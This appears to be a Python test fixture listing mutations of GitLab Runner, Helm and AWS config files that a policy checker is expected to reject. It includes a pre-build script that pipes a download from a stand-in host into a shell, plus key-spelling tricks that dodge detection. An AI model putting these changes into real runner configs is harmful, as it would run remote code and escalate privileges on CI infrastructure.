"""Mutations of one registered resource: keys of a release in every spelling, keys that only R10 judges, AWS configs of classes.

The unit tests of the rules try more of them (`tests/support/release_changes.py`). Here the whole pack sees one of each kind and spelling.
"""

from __future__ import annotations

from typing import Any

from tests.attacks.mutation import Mutation
from tests.attacks.registered import with_resource
from tests.support.release_changes import (
    CONFIG,
    DEPLOY,
    DEPLOY_CONFIG,
    FILE,
    KUBERNETES,
    PRIVILEGED,
    PROD,
    SMALL,
    SMALL_CONFIG,
    ReleaseChange,
)

TEXT, FILE_TEXT = f"text {CONFIG}", f"text {FILE}"
UNREADABLE = "I01 I02 R01 R02 R03 R04 R05 R06 R09 R10 S02 T10"
TWICE = "I01 I02 R10 T10"
"""For the access matrix, a key of two spellings is undecided."""


def on(resource: str, rules: str, attack: str, name: str, place: str, value: Any) -> Mutation:
    """Return a mutation of one resource; `place` and `value` are those of `ReleaseChange`."""
    change = ReleaseChange(kind="", place=place, value=value, rules=frozenset(rules.split()), resource=resource)
    return Mutation(attack=attack, name=name, rules=change.rules, edit=with_resource(resource, change.of))


def small(rules: str, attack: str, name: str, place: str, value: Any) -> Mutation:
    """Return a mutation of the open class's release."""
    return on(SMALL, rules, attack, name, place, value)


SPELLINGS = [
    small("R01 R10", "A05", "jobs are privileged, by `Privileged` alone", TEXT, (PRIVILEGED, "Privileged = true\n")),
    small(f"R01 {TWICE}", "A05", "jobs are privileged, by `Privileged` beside `privileged`", TEXT, (PRIVILEGED, f"{PRIVILEGED}Privileged = true\n")),
    small(f"R01 {TWICE}", "A05", "jobs are privileged, by a key with an escaped letter", TEXT, (PRIVILEGED, f'{PRIVILEGED}"pr\\u0049vileged" = true\n')),
    small(f"R01 {TWICE}", "A05", "jobs are privileged, by a second table `[runners.Kubernetes]`", TEXT, ("", "\n[runners.Kubernetes]\nprivileged = true\n")),
    small(f"R01 {TWICE}", "A05", "jobs are privileged, by a table whose K is the Kelvin sign", TEXT, ("", '\n[runners."\\u212Aubernetes"]\nprivileged = true\n')),
    small(UNREADABLE, "A05", "jobs are privileged, by a second list `[[Runners]]`", TEXT, ("", "\n[[Runners]]\n[Runners.kubernetes]\nprivileged = true\n")),
    small(f"R05 {TWICE}", "A04", "jobs run with their manager's account, by `Service_Account`", TEXT, (KUBERNETES, f'{KUBERNETES}Service_Account = "manager"\n')),
    small("R10", "A17", "the cache is of another type, in small letters", TEXT, ('Type = "s3"', 'type = "gcs"')),
]  # fmt: skip
EMPTY = [
    on(DEPLOY, "I01 R04", "A28", "the protected class may run every image, by an empty list", "toml kubernetes.allowed_images", []),
    on(DEPLOY, "I01 R04", "A28", "the protected class may run every service, by an empty list", "toml kubernetes.allowed_services", []),
    small("R04", "A24", "images that are there already are not pulled, by an empty list", "toml kubernetes.pull_policy", []),
    small("R10", "A05", "jobs keep every capability, by an empty list", "toml kubernetes.cap_drop", []),
    on("small-runner-jobs-network", "E08", "A01", "jobs may connect everywhere, by an empty list of peers", "spec.egress", [{"to": []}]),
    on("small-runner-jobs-network", "E08", "A01", "jobs may use every port of the DNS address, by an empty list of ports", "spec.egress.0.ports", []),
]  # fmt: skip
KEYS = [
    small("R10", "A22", "jobs clone from somebody else", "toml clone_url", "https://evil.example"),
    small("R10", "A22", "the runner asks another GitLab for jobs", "toml url", "https://evil.example"),
    small("R10", "A22", "the runner's token is in the TOML", "toml token", "glrt-fabricated"),
    small("R10", "A22", "a script runs before each job", "toml pre_build_script", "curl https://evil.example | sh"),
    small("R10", "A12", "jobs get another AWS config, by a variable of the runner", "toml environment", ["AWS_CONFIG_FILE=/builds/config"]),
    small("R10", "A20", "jobs run in the manager itself", "toml executor", "shell"),
    small("R10", "A22", "job pods take another host for GitLab", "toml kubernetes.host_aliases", [{"ip": "203.0.113.9", "hostnames": ["gitlab.com"]}]),
    small("R10", "A22", "a stranger's helper clones with the jobs' credentials", "toml kubernetes.helper_image", "registry.evil.example/helper:1"),
    small("R10", "A16", "jobs without an image run a stranger's", "toml kubernetes.image", "registry.evil.example/build:1"),
    small("R10", "A17", "the cache is at another server", "toml cache.s3.ServerAddress", "s3.evil.example"),
    small("R10", "A17", "the cache has a lasting key", "toml cache.s3.AccessKey", "AKIAEXAMPLE"),
    small("R10", "A17", "the cache is of another type", "toml cache.Type", "gcs"),
    small("R10", "A23", "jobs tolerate the managers' nodes", "toml kubernetes.node_tolerations", {"runner-platform/class=managers": "NoSchedule"}),
    small("R10", "A23", "jobs run on another class's nodes", "toml kubernetes.node_selector", {"runner-platform/class": "deploy"}),
    small("R10", "A05", "a feature flag that no rule knows", "toml feature_flags.FF_CONCRETE", True),
    small("R10", "A05", "a global key in the TOML", TEXT, ("[[runners]]", 'log_level = "debug"\n[[runners]]')),
]  # fmt: skip
VALUES = [
    small("R10", "A22", "the manager registers with another GitLab", "values.gitlabUrl", "https://gitlab.evil.example"),
    small("R10", "A22", "the manager takes another token", "values.runners.secret", "other-secret"),
    small("R10", "A22", "the manager takes another host for GitLab", "values.hostAliases", [{"ip": "203.0.113.9", "hostnames": ["gitlab.com"]}]),
    small("R10", "A22", "another image runs as manager", "values.image", {"registry": "registry.evil.example"}),
    small("R10", "A22", "the manager's environment comes from a Secret", "values.extraEnvFromRefs", [{"secretRef": {"name": "other"}}]),
    small("R10", "A23", "the manager runs on a class's nodes", "values.nodeSelector", {"runner-platform/class": "deploy"}),
    small("R10", "A23", "the manager tolerates every node", "values.tolerations", [{"operator": "Exists"}]),
    small("R10", "A20", "the chart brings objects of its own", "values.extraObjects", [{"kind": "ClusterRoleBinding"}]),
    small("R05", "A20", "the chart makes rights, by text that a template takes for true", "values.rbac.create", "false"),
    small("R07", "A22", "another chart", "chart", "oci://registry.evil.example/gitlab-runner"),
    small("R07", "A22", "another version of the chart", "version", "0.1.0"),
    small("R10", "A22", "a program changes what the chart renders", "postrender", "./change"),
    small("R10", "A22", "values of an earlier release stay", "reuseValues", True),
    small("R10", "A22", "the repository's certificate is another authority's", "repositoryOpts.caFile", "/etc/ca"),
]  # fmt: skip
PROFILES = [
    on(SMALL_CONFIG, "T13", "A12", "the open class has a profile `admin` that leads to prod", FILE_TEXT, ("", f"\n[profile admin]\nrole_arn = {PROD}\nsource_profile = base\n")),
    on(DEPLOY_CONFIG, "T13", "A25", "the profile prod of the protected class leads to admin", FILE_TEXT, ("444444444444", "111111111111")),
    on(DEPLOY_CONFIG, "T13", "A12", "`[default]` of the protected class is the delegated role", FILE_TEXT, ("[default]\nrole_arn = arn:aws:iam::222222222222:role/cicd/runner-deploy", f"[default]\nrole_arn = {PROD}")),
    on(SMALL_CONFIG, "T13", "A12", "the token file is where a job may write", FILE_TEXT, ("/etc/runner-platform/aws/token", "/builds/token")),
    on(SMALL_CONFIG, "T13", "A25", "a profile asks a program for credentials", FILE_TEXT, ("[profile dev]\n", "[profile dev]\ncredential_process = /builds/x\n")),
    on(SMALL_CONFIG, "T13", "A25", "a profile asks another endpoint", FILE_TEXT, ("[profile dev]\n", "[profile dev]\nendpoint_url = https://evil.example\n")),
    on(SMALL_CONFIG, "T13", "A25", "the ConfigMap has a second file", "data.credentials", "[default]\naws_access_key_id = x\n"),
    on(SMALL_CONFIG, "T13", "A25", "the ConfigMap's file is binary data", "binaryData", {"config": "W2RlZmF1bHRd"}),
]  # fmt: skip
MUTATIONS = [*SPELLINGS, *EMPTY, *KEYS, *VALUES, *PROFILES]
